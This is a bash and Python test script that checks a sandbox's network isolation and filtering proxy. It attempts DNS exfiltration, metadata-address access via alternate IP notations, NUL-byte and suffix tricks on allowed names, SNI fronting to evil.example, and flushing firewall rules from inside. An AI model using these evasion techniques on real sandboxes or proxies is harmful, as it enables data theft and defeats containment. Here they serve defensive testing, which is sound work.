#!/bin/bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# Reaching the network other than through the filtering proxy: DNS (exfiltration through
# look-ups), direct TCP/UDP, IPv6, the cloud metadata address, services on the host's
# loopback, raw and ICMP sockets, reconfiguring the sandbox's own network; and, with --net
# proxy, fooling the proxy (IP literals in other notations, suffix tricks, NUL bytes in a
# SOCKS5 name, the metadata address, TLS SNI differing from the CONNECT host); with transparent
# egress, IP literals, pool addresses never handed out, IPv6, UDP, raw sockets, the host's
# loopback through a name, and undoing the rules or the resolver from inside.
#
# Layers under test: the network namespace with only lo (no route, no resolver, no host
# loopback), no capabilities in it (raw sockets, netlink changes), the ping group range of
# a fresh namespace; the proxy's filter.
# shellcheck source=tests/lib.sh disable=SC2016
. "$(dirname "$0")/../lib.sh"
require_sandbox
require_python

# probe ARGS...: run the python below inside with --net none; OUT = its lines.
NETPY='
import errno, socket, sys
def err(x):
    return errno.errorcode.get(x.errno, str(x.errno)) if isinstance(x.errno, int) and x.errno > 0 else str(x)
def tcp(host, port, fam=socket.AF_INET):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((host, port)); return "connected"
    except OSError as x: return err(x)
def udp(host, port, fam=socket.AF_INET):
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(2)
    try:
        s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04exfil\x07example\x03com\x00\x00\x01\x00\x01", (host, port))
        s.recv(512); return "answered"
    except OSError as x: return err(x)
def lookup(name):
    try:
        socket.getaddrinfo(name, 80); return "resolved"
    except socket.gaierror as x: return "EAI %d" % x.errno
for a in sys.argv[1:]:
    kind, _, rest = a.partition(":")
    if kind == "tcp": h, p = rest.rsplit(":", 1); print(a, tcp(h, int(p)))
    elif kind == "tcp6": h, p = rest.rsplit(":", 1); print(a, tcp(h, int(p), socket.AF_INET6))
    elif kind == "udp": h, p = rest.rsplit(":", 1); print(a, udp(h, int(p)))
    elif kind == "lookup": print(a, lookup(rest))
'
declare -A NET
probe() {
	local k v
	NET=()
	hrun run --net none -- "$PY" -c "$NETPY" "$@"
	while read -r k v; do
		NET[$k]=$v
	done <<<"$OUT"
}

# ---- DNS exfiltration -------------------------------------------------------------------------
RESOLVER=$(awk '$1 == "nameserver" { print $2; exit }' /etc/resolv.conf 2>/dev/null)
RESOLVER=${RESOLVER:-127.0.0.53}
NAME=exfil-$(od -An -N6 -tx1 /dev/urandom | tr -d " \n").example.com
probe "lookup:$NAME" "udp:$RESOLVER:53" "tcp:$RESOLVER:53" "udp:8.8.8.8:53"
# glibc: EAI_AGAIN (-3) when no server answered, EAI_NONAME (-2) without any resolver.
like "${NET[lookup:$NAME]}" '^EAI -(3|2)$' "a DNS look-up of a name carrying data fails (${NET[lookup:$NAME]}: no resolver reachable)"
case $RESOLVER in
127.*)
	is "${NET[udp:$RESOLVER:53]}" ECONNREFUSED "the host's resolver $RESOLVER:53 over UDP -> ECONNREFUSED (the sandbox's own lo)"
	is "${NET[tcp:$RESOLVER:53]}" ECONNREFUSED "  and over TCP -> ECONNREFUSED"
	;;
*)
	is "${NET[udp:$RESOLVER:53]}" ENETUNREACH "the host's resolver $RESOLVER:53 over UDP -> ENETUNREACH"
	is "${NET[tcp:$RESOLVER:53]}" ENETUNREACH "  and over TCP -> ENETUNREACH"
	;;
esac
is "${NET[udp:8.8.8.8:53]}" ENETUNREACH "a public resolver (8.8.8.8:53) -> ENETUNREACH"

# ---- direct connections, IPv6, metadata, host loopback -------------------------------------------
start_loopback_service
is "$("$PY" -c "$CONNECT_PY" "127.0.0.1:$SRV_PORT")" HUTCH-HTTP-OK "(control: the host loopback service answers on the host)"
probe "tcp:1.1.1.1:443" "tcp:169.254.169.254:80" "udp:169.254.169.254:80" "tcp:127.0.0.1:$SRV_PORT" \
	"tcp:10.0.0.1:22" "tcp6:2606:4700:4700::1111:443" "tcp6:::1:$SRV_PORT" "tcp6:::ffff:1.1.1.1:443"
is "${NET[tcp:1.1.1.1:443]}" ENETUNREACH "direct TCP to a public address -> ENETUNREACH"
is "${NET[tcp:169.254.169.254:80]}" ENETUNREACH "the cloud metadata address 169.254.169.254 -> ENETUNREACH"
is "${NET[udp:169.254.169.254:80]}" ENETUNREACH "  over UDP too"
is "${NET[tcp:127.0.0.1:$SRV_PORT]}" ECONNREFUSED "the host's loopback service (127.0.0.1:$SRV_PORT) -> ECONNREFUSED"
is "${NET[tcp:10.0.0.1:22]}" ENETUNREACH "a private range (10.0.0.1) -> ENETUNREACH"
is "${NET[tcp6:2606:4700:4700::1111:443]}" ENETUNREACH "IPv6: a public address -> ENETUNREACH (no route)"
is "${NET[tcp6:::1:$SRV_PORT]}" ECONNREFUSED "IPv6: ::1 is the sandbox's own -> ECONNREFUSED"
is "${NET[tcp6:::ffff:1.1.1.1:443]}" ENETUNREACH "IPv6: an IPv4-mapped public address -> ENETUNREACH"
hrun run --net none -- sh -c 'cat /proc/net/if_inet6 | awk "{ print \$6 }" | sort | tr "\n" " "'
is "$(words "$OUT")" "lo" "IPv6: the only interface with an address is lo (::1)"

# ---- raw sockets, ICMP, changing the sandbox's network ----------------------------------------
hrun run --net none -- "$PY" -c '
import socket, errno
for name, args in [("raw", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
                   ("raw6", (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)),
                   ("ping", (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP))]:
    try:
        socket.socket(*args); print(name, "created")
    except OSError as e: print(name, errno.errorcode[e.errno])'
is "$(words "$OUT")" "raw EPERM raw6 EPERM ping EACCES" \
	"raw IPv4/IPv6 sockets -> EPERM; ICMP echo sockets -> EACCES (ping_group_range)"
if command -v ip >/dev/null; then
	hrun run --net none -- sh -c 'ip link add veth-esc type veth peer name veth-esc1 2>&1;
		ip route add default dev lo 2>&1; ip addr add 10.9.9.9/24 dev lo 2>&1'
	is "$(grep -c "Operation not permitted" <<<"$OUT")" 3 \
		"creating a veth, adding a default route or an address -> EPERM (netlink, no CAP_NET_ADMIN)"
else
	skip "ip (iproute2) not installed"
fi

# ---- --net proxy: fooling the proxy ----------------------------------------------------------------
hrun run --net proxy -- sh -c 'echo "${HTTP_PROXY:-}"'
if [ -z "$OUT" ]; then
	skip "hutch run --net proxy has no proxy engine yet (HTTP_PROXY is not set inside)" 1
	done_testing
fi
PROXY=$OUT

# curl_in ARGS: curl inside through the proxy (also for loopback names, which NO_PROXY
# would otherwise send to the sandbox's own lo), printing the status and headers.
curl_in() {
	hrun run -a allowed.hutch.invalid -- curl -sS -m 10 --proxy "$PROXY" --noproxy '' \
		-o /dev/null -D - "$@"
}
for target in http://169.254.169.254/latest/meta-data/ http://2852039166/ http://0xA9FEA9FE/ \
	http://0251.0376.0251.0376/ "http://[::ffff:169.254.169.254]/" http://127.1/ \
	http://allowed.hutch.invalid.evil.example/ http://evilallowed.hutch.invalid/; do
	curl_in "$target"
	like "$OUT" "^HTTP/1\.[01] 403" "proxy: $target -> 403"
	like "$OUT" "[Xx]-[Hh]utch-[Dd]eny" "  with X-Hutch-Deny naming the rule"
done
# A reset that comes before curl asks for the peer's address reads "getpeername() failed
# with errno 107: Transport endpoint is not connected": the same refusal, earlier.
hrun run -a allowed.hutch.invalid -- curl -sS -m 10 --noproxy '*' http://1.1.1.1/
like "$ERR" "Failed to connect|Network is unreachable|Couldn't connect|Connection reset by peer|Transport endpoint is not connected" \
	"proxy mode: curl --noproxy '*' to a public address fails (no route past the proxy; transparent egress: refused, reset)"
hrun run -a allowed.hutch.invalid -- "$PY" -c '
import socket
s = socket.create_connection(("127.0.0.1", 1080), timeout=5)
s.sendall(b"\x05\x01\x00"); s.recv(2)
name = b"allowed.hutch.invalid\x00.evil.example"
s.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x00\x50")
r = s.recv(10); print("reply", r[1] if len(r) > 1 else "closed")'
is "$OUT" "reply 2" "SOCKS5: a name with a NUL byte (allowed.hutch.invalid\\0.evil.example) -> reply 2 (not allowed)"

hrun run -a allowed.hutch.invalid -- "$PY" -c "$NETPY" "lookup:$NAME" "udp:$RESOLVER:53"
like "$(words "$OUT")" "^lookup:$NAME EAI -(3|2) udp:$RESOLVER:53 (ENETUNREACH|ECONNREFUSED|EPERM)$" \
	"proxy mode: DNS look-ups of names not allowed fail, the host's resolver is unreachable (only the supervisor resolves)"

# A name that resolves to loopback (localhost) while allowPrivate is false.
hrun run -a localhost -- curl -sS -m 10 --proxy "$PROXY" --noproxy '' -o /dev/null -D - \
	"http://localhost:$SRV_PORT/"
like "$OUT" "^HTTP/1\.[01] 403" "proxy: an allowed name resolving to 127.0.0.1 (allowPrivate false) -> 403"

# TLS SNI fronting: a tunnel opened for an allowed name, a ClientHello naming another.
# The upstream is a TCP listener on the host that records whether anything reached it.
printf '{ "network": { "allowPrivate": true } }\n' >"$T/private.json"
SNI_LOG=$T/sni.log
"$PY" - "$T/sni-port" "$SNI_LOG" <<'PY' &
import socket, sys, os
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(8)
open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1])); os.rename(sys.argv[1] + ".tmp", sys.argv[1])
while True:
    c, _ = s.accept()
    c.settimeout(3)
    try:
        data = c.recv(4096)
    except OSError:
        data = b""
    with open(sys.argv[2], "a") as f:
        f.write("got %d bytes%s\n" % (len(data), " sni=localhost" if b"localhost" in data else
                                      " sni=evil" if b"evil.example" in data else ""))
    c.close()
PY
bg_register $!
wait_for_file "$T/sni-port" 10
SNI_PORT=$(cat "$T/sni-port")
SNI_PY='
import socket, ssl, sys
s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
s.sendall(("CONNECT localhost:%s HTTP/1.1\r\nHost: localhost:%s\r\n\r\n" % (sys.argv[1], sys.argv[1])).encode())
head = s.recv(1024).split(b"\r\n")[0].decode()
ctx = ssl.create_default_context()
t = ctx.wrap_socket(s, server_hostname=sys.argv[2], do_handshake_on_connect=False)
try:
    t.do_handshake(); r = "handshake"
except (OSError, ssl.SSLError) as e:
    r = "closed" if isinstance(e, (ssl.SSLEOFError, ConnectionResetError)) or "EOF" in str(e) else "tls-error"
print(head, r)'
hrun run -p "$T/private.json" -a localhost -- "$PY" -c "$SNI_PY" "$SNI_PORT" localhost
like "$OUT" "200" "(control: CONNECT localhost is allowed with allowPrivate)"
wait_for_file "$SNI_LOG" 5
like "$(cat "$SNI_LOG" 2>/dev/null)" "sni=localhost" "(control: a ClientHello naming localhost reaches the upstream)"
: >"$SNI_LOG"
hrun run -p "$T/private.json" -a localhost -- "$PY" -c "$SNI_PY" "$SNI_PORT" evil.example
like "$OUT" "200 .*closed" "SNI fronting: a ClientHello naming evil.example in a tunnel to localhost -> tunnel closed"
sleep 1
unlike "$(cat "$SNI_LOG" 2>/dev/null)" "sni=evil" "  and the ClientHello never reached the upstream"

# ---- --net proxy, transparent egress (docs/network.md, "Transparent egress") --------------------
hrun check
if ! grep -Eq '^transparent-egress +available' <<<"$OUT"; then
	skip "transparent egress unavailable here: $(grep -E '^transparent-egress' <<<"$OUT")" 20
	note "proxy at $PROXY"
	done_testing
fi
TPY='
import errno, socket, sys
def err(x):
    return errno.errorcode.get(x.errno, str(x)) if isinstance(x.errno, int) and x.errno > 0 else str(x)
for a in sys.argv[1:]:
    kind, _, rest = a.partition(":")
    h, p = rest.rsplit(":", 1)
    if kind == "raw":
        try: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP); print(a, "created")
        except OSError as x: print(a, err(x))
        continue
    fam = socket.AF_INET6 if kind == "tcp6" else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM); s.settimeout(5)
    try:
        if kind == "udp":
            s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04exfil\x07example\x03com\x00\x00\x01\x00\x01", (h, int(p)))
            s.recv(512); print(a, "answered"); continue
        s.connect((h, int(p))); s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        print(a, "data" if s.recv(100) else "closed")
    except OSError as x: print(a, err(x))
'
L=$T/transparent-audit.jsonl
rm -f "$L"
hrun run -a example.com --audit "$L" -- "$PY" -c "$TPY" "tcp:93.184.215.14:80" "tcp:198.18.255.254:80" \
	"tcp:localhost.:$SRV_PORT" "tcp6:2001:db8::1:80" "tcp6:::ffff:1.1.1.1:443" "udp:8.8.8.8:53" \
	"udp:$RESOLVER:53" "raw:x:0"
declare -A TR=()
while read -r k v; do TR[$k]=$v; done <<<"$OUT"
is "${TR[tcp:93.184.215.14:80]}" ECONNRESET "transparent: an IP literal (not an address rule) -> reset"
like "$(grep -F '"server.address":"93.184.215.14"' "$L")" '"outcome":"refused".*IP address not in allowlist' \
	"  refused like the proxy refuses an IP literal (audit)"
is "${TR[tcp:198.18.255.254:80]}" ECONNRESET "transparent: a pool address never handed out -> reset"
like "$(grep -F '"server.address":"198.18.255.254"' "$L")" 'never handed out' "  and the audit log says why"
like "${TR[tcp:localhost.:$SRV_PORT]}" "gaierror|EAI|-2|Name or service" \
	"transparent: a name not allowed does not even resolve (localhost. -> NXDOMAIN)"
is "${TR[tcp6:2001:db8::1:80]}" ENETUNREACH "transparent: IPv6 out -> ENETUNREACH"
is "${TR[tcp6:::ffff:1.1.1.1:443]}" ECONNRESET "transparent: IPv4-mapped IPv6 is IPv4: refused as a literal (reset)"
is "${TR[udp:8.8.8.8:53]}" EPERM "transparent: UDP to a public resolver -> EPERM"
is "${TR[udp:$RESOLVER:53]}" "$(case $RESOLVER in 127.*) echo ECONNREFUSED ;; *) echo EPERM ;; esac)" \
	"transparent: UDP to the host's resolver ($RESOLVER) -> refused"
is "${TR[raw:x:0]}" EPERM "transparent: a raw socket -> EPERM"

# IPv6 inside: the resolver gives no AAAA (an empty NOERROR, tested in integration/transparent.t),
# and nothing over IPv6 leaves; each answer is immediate (no hang): a pool address handed out
# behind NAT64 (64:ff9b::/96), unique local, link-local, the host's [::1] (the sandbox's own
# ::1 inside: refused, the host's server sees nothing). IPv4-mapped IPv6 is IPv4: a pool address
# handed out reaches its name as over AF_INET (the same decision).
V6PY='
import errno, socket, sys, time
port, v6port = sys.argv[1], sys.argv[2]
pool = socket.getaddrinfo("localhost.", 80, socket.AF_INET)[0][4][0]
p = pool.split(".")
nat64 = "64:ff9b::%02x%02x:%02x%02x" % tuple(int(x) for x in p)
for name, h, pt in (("mapped", "::ffff:" + pool, port), ("nat64", nat64, port), ("ula", "fd00::1", port),
                    ("linklocal", "fe80::1", port), ("hostlo6", "::1", v6port)):
    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(10)
    t = time.time()
    try:
        s.connect((h, int(pt), 0, socket.if_nametoindex("lo") if h.startswith("fe80") else 0))
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        d = s.recv(200)
        r = d.decode().strip().splitlines()[-1] if d else "closed"
    except OSError as x: r = errno.errorcode.get(x.errno, str(x))
    print(name, r, "fast" if time.time() - t < 5 else "slow")
'
if "$PY" -c 'import socket; socket.socket(socket.AF_INET6).bind(("::1", 0))' 2>/dev/null; then
	"$PY" - "$T/v6.port" "$T/v6.log" <<'PY' &
import os, socket, sys
s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
s.bind(("::1", 0)); s.listen(4)
open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1])); os.rename(sys.argv[1] + ".tmp", sys.argv[1])
while True:
    c, _ = s.accept()
    open(sys.argv[2], "a").write("connection\n"); c.close()
PY
	bg_register $!
	wait_for_file "$T/v6.port" 10
	V6PORT=$(cat "$T/v6.port")
	printf '{ "network": { "allowPrivate": true, "allow": ["localhost:%s"] } }\n' "$SRV_PORT" >"$T/lo6.json"
	hrun run -p "$T/lo6.json" -- "$PY" -c "$V6PY" "$SRV_PORT" "$V6PORT"
	declare -A V6=()
	while read -r k v; do V6[$k]=$v; done <<<"$OUT"
	is "${V6[mapped]:-}" "HUTCH-HTTP-OK fast" "transparent IPv6: IPv4-mapped pool address handed out -> its name, as over IPv4"
	is "${V6[nat64]:-}" "ENETUNREACH fast" "transparent IPv6: the pool address behind NAT64 -> ENETUNREACH at once"
	is "${V6[ula]:-}" "ENETUNREACH fast" "transparent IPv6: unique local -> ENETUNREACH at once"
	is "${V6[linklocal]:-}" "ENETUNREACH fast" "transparent IPv6: link-local on lo -> ENETUNREACH at once"
	is "${V6[hostlo6]:-}" "ECONNREFUSED fast" "transparent IPv6: the host's [::1] service -> the sandbox's own ::1, refused"
	is "$(cat "$T/v6.log" 2>/dev/null)" "" "  and the host's [::1] server saw no connection"
else
	skip "no IPv6 loopback on the host" 6
fi

# The host's loopback through a name that resolves to it (allowPrivate false): refused.
rm -f "$L"
hrun run -a localhost --audit "$L" -- "$PY" -c "$TPY" "tcp:localhost.:$SRV_PORT"
is "$OUT" "tcp:localhost.:$SRV_PORT ECONNRESET" "transparent: an allowed name resolving to the host's 127.0.0.1 (allowPrivate false) -> reset"
like "$(grep -F '"proxy.via":"transparent"' "$L")" 'loopback' "  refused for its loopback address (audit)"

# Connecting to hutch's transparent listener itself (found in /proc/net/tcp): not redirected, so
# its "original destination" is 127.0.0.1 -- a loopback literal, refused.
hrun run -a example.com -- "$PY" -c '
import socket
ports = set()
for l in open("/proc/net/tcp").readlines()[1:]:
    f = l.split()
    a, p = f[1].split(":")
    if f[3] == "0A" and a == "0100007F" and int(p, 16) not in (3128, 1080):
        ports.add(int(p, 16))
print(len(ports), end=" ")
for p in sorted(ports):
    try:
        s = socket.create_connection(("127.0.0.1", p), timeout=5)
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        print("data" if s.recv(100) else "closed", end=" ")
    except OSError as e:
        print(e.__class__.__name__, end=" ")'
is "$(words "$OUT")" "1 ConnectionResetError" "transparent: connecting to hutch's transparent listener directly -> reset (a loopback literal)"

# The sandbox cannot undo the rules, the route or its resolver.
hrun run -a example.com -- sh -c 'echo "nameserver 8.8.8.8" >/etc/resolv.conf 2>/dev/null && echo written;
	ip route del default 2>/dev/null && echo route-deleted; nft flush ruleset 2>/dev/null && echo flushed;
	'"'$PY'"' -c "$1" udp:8.8.8.8:53' sh "$TPY"
is "$(words "$OUT")" "udp:8.8.8.8:53 EPERM" \
	"transparent: /etc/resolv.conf read-only, route and nftables rules unchangeable (no CAP_NET_ADMIN), UDP still refused"

note "proxy at $PROXY"

done_testing
